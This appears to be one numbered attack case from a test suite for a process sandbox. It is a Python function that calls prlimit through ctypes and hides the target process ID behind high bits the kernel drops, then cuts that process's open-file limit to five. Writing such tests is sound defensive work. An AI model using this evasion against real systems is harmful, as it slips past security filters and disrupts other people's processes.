# C43: hides whose limits it changes behind bits that the kernel drops
# Without layers: succeeds
import sys

os = sys.modules["os"]

PRLIMIT = {"x86_64": 302, "aarch64": 261}
RLIMIT_NOFILE = 7


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, few = ctypes.CDLL(None), (ctypes.c_uint64 * 2)(5, 5)
    victim = ctypes.c_long(1 << 32 | facts["victim"])
    return libc.syscall(PRLIMIT[os.uname().machine], victim, RLIMIT_NOFILE, few, None) == 0
